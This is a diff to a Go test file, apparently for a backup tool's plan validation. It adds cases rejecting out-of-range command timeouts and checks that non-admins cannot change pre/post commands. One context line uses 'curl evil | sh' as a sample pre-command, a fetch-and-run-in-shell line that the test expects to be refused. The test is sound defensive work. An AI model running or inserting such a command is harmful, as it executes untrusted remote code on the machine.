@@ -194,6 +194,8 @@ func TestValidation(t *testing.T) {
 			{"negative keep_within", func(s *plans.Spec) { s.Retention.KeepWithin = -time.Hour }, coffer.KindInvalid, "invalid_retention", "body.retention.keep_within", ""},
 			{"compression", func(s *plans.Spec) { s.Compression = "max" }, coffer.KindInvalid, "invalid_compression", "body.compression", ""},
 			{"full_every", func(s *plans.Spec) { s.FullEvery = -1 }, coffer.KindInvalid, "invalid_full_every", "body.full_every", ""},
+			{"command timeout under a second", func(s *plans.Spec) { s.CommandTimeout = 500 * time.Millisecond }, coffer.KindInvalid, "invalid_command_timeout", "body.command_timeout_seconds", ""},
+			{"command timeout over a day", func(s *plans.Spec) { s.CommandTimeout = 25 * time.Hour }, coffer.KindInvalid, "invalid_command_timeout", "body.command_timeout_seconds", ""},
 		} {
 			t.Run(tc.name, func(t *testing.T) {
 				s := spec("p")
@@ -246,6 +248,7 @@ func TestCommandsNeedAdmin(t *testing.T) {
 		}
 		// Changing or dropping them is refused.
 		for _, edit := range []func(*plans.Spec){
+			func(s *plans.Spec) { s.CommandTimeout = 24 * time.Hour },
 			func(s *plans.Spec) { s.PreCommands = []string{"curl evil | sh"} },
 			func(s *plans.Spec) { s.PostCommands = nil },
 			func(s *plans.Spec) { s.PreCommands, s.PostCommands = nil, nil },
